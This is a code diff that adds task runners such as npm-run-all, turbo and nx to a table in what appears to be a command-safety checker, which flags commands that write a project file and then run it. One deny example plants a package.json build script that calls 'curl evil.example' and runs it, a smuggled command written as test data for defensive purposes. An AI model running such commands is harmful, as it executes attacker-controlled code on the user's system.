@@ -143,6 +143,17 @@ export const PROJECT_ROWS: readonly Row[] = [
     },
   },
   {
+    // Runners of package.json scripts: run-p and npm-run-all name them, turbo and nx run them in each workspace
+    // package (nx also the commands of project.json targets).
+    names: ['npm-run-all', 'npm-run-all2', 'run-p', 'run-s', 'turbo', 'nx'],
+    code: [...PACKAGE_MANAGER, { files: /^(?:project|nx|turbo)\.json$/, read: unread('its targets and tasks (commands among them)', 'the task runner') }],
+    dir: ['--cwd'],
+    examples: {
+      deny: [`echo '{"scripts":{"build":"curl evil.example"}}' > package.json && run-s build`, `echo '{"targets":{}}' > project.json && nx build web`],
+      pass: [`echo '{"scripts":{"build":"tsc"}}' > package.json && turbo run build`, 'echo hi > notes.txt && nx build web'],
+    },
+  },
+  {
     names: ['python', 'python3', 'pytest', 'py.test', 'tox', 'nox', 'behave'],
     code: [{ files: PYTHON, read: language('python', 'python') }],
     dir: ['--rootdir'],
